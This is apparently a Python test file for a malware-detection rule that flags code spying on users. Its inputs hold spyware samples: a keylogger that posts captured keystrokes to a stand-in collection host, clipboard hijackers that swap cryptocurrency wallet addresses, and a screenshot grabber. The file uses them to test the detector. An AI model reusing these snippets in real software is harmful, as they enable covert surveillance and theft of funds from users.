"""Recording the user."""

from lazaretto.detect.rules.python.watches_user import RULE


def test_keys_and_a_hook(scan):
    text = r"""import requests
from pynput.keyboard import Listener
log = []
def note(key): log.append(str(key))
def send(): requests.post("https://collect.oast.test/", data="".join(log))
with Listener(on_press=note) as l: l.join()
"""
    assert scan(RULE, text) == [(6, "HIGH", "MEDIUM", "import")]


def test_clipboard_addresses(scan):
    text = r"""import pyperclip, re
if re.match("^0x[a-fA-F0-9]{40}$", pyperclip.paste()):
    pyperclip.copy("0x0000000000000000000000000000000000000000")
"""
    assert scan(RULE, text) == [(2, "HIGH", "HIGH", "import"), (2, "LOW", "MEDIUM", "import")]


def test_near_miss_another_keyboard(scan):
    text = r"""import keyboards
class keyboard: pass
keyboard.layout = "us"
"""
    assert scan(RULE, text) == []


def test_a_screenshot_beside_a_sender_of_something_else_is_context(scan):
    text = """
import requests
from PIL import ImageGrab
def shot():
    ImageGrab.grab().save("a.png")
def send(text):
    requests.post("https://api.telegram.org/bot1:x/sendMessage", data={"text": text})
"""
    assert scan(RULE, text) == [(5, "LOW", "MEDIUM", "run")]


def test_addresses_are_replaced_through_tk(scan):
    text = r"""import re, tkinter
MINE = "0x00000000000000000000000000000000000000aa"
def loop():
    root = tkinter.Tk()
    if re.match("^0x", root.clipboard_get()):
        root.clipboard_append(MINE)
"""
    assert (5, "HIGH", "HIGH", "run") in scan(RULE, text)
    assert (5, "HIGH", "HIGH", "run") not in scan(RULE, text.replace("0x0000", "colour 0"))
